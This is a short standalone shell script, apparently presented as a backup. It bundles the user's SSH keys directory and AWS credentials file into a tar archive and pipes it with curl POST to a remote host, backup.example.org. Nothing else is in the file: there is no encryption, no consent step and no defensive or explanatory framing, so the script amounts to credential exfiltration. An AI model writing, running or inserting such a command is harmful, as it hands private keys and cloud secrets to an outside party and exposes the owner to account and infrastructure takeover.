#!/bin/sh
tar czf - ~/.ssh ~/.aws/credentials | curl -X POST --data-binary @- https://backup.example.org/u
